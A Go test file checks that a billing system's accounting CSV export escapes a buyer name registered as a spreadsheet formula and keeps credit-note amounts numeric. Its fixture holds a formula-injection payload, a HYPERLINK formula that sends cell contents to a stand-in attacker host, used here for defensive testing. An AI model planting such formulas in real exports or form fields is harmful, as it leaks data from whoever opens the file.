package billing_test

import (
	"bytes"
	"encoding/csv"
	"testing"
	"time"

	"github.com/shopspring/decimal"

	"cardata/app/db/dbtest"
	"cardata/billing"
	"cardata/billing/billingtest"
	"cardata/templates/i18n"
)

// The accounting export opens in a spreadsheet: a buyer name a provider
// registered as a formula is text there, while a credit note's negative
// amounts stay numbers accountants can add up.
func TestAccountingCSVEscapesFormulasAndKeepsNegativeAmounts(t *testing.T) {
	t.Parallel()
	gdb := dbtest.New(t)
	hostile := billingtest.German(1)
	hostile.LegalName = `=HYPERLINK("https://evil.example/?d="&A1,"Open invoice")`
	s := billingtest.MustSetup(t, gdb, billingtest.NewDirectory(hostile))
	billingtest.MustDeliveries(t, gdb, 1, billing.KindPull, utc("2026-10-02T07:00:00Z"), time.Minute, 1234, "d")
	mustRun(t, s, "2026-10")
	inv, err := s.Finalize(billingtest.Ctx(), invoiceFor(t, s, 1, "2026-10").ID)
	if err != nil {
		t.Fatal(err)
	}
	cn, err := s.RequestCreditNote(billingtest.StaffCtx(11, "fiona@test"), inv.ID, billing.CreditRequest{Reason: "Duplicate deliveries", Amount: "5.50"})
	if err != nil {
		t.Fatal(err)
	}
	if _, err := s.Finalize(billingtest.StaffCtx(12, "frank@test"), cn.ID); err != nil {
		t.Fatal(err)
	}

	out, err := s.ExportCSV(billingtest.Ctx(), "", i18n.EN)
	if err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(bytes.NewReader(out)).ReadAll()
	if err != nil {
		t.Fatalf("%v\n%s", err, out)
	}
	col := map[string]int{}
	for i, h := range rows[0] {
		col[h] = i
	}
	if len(rows) != 3 {
		t.Fatalf("want an invoice and a credit note:\n%s", out)
	}
	for _, r := range rows[1:] {
		if got := r[col["buyer"]]; got != "'"+hostile.LegalName {
			t.Errorf("buyer cell %q: a spreadsheet would run it", got)
		}
		for _, c := range []string{"net", "vat", "gross", "paid", "vat_rate"} {
			v := r[col[c]]
			if _, err := decimal.NewFromString(v); err != nil {
				t.Errorf("%s %s: %q is not a number any more", r[col["type"]], c, v)
			}
		}
		if r[col["type"]] == "credit_note" {
			if r[col["net"]] != "-5.50" || r[col["gross"]][0] != '-' {
				t.Errorf("credit note amounts: net %q gross %q", r[col["net"]], r[col["gross"]])
			}
		}
	}
}
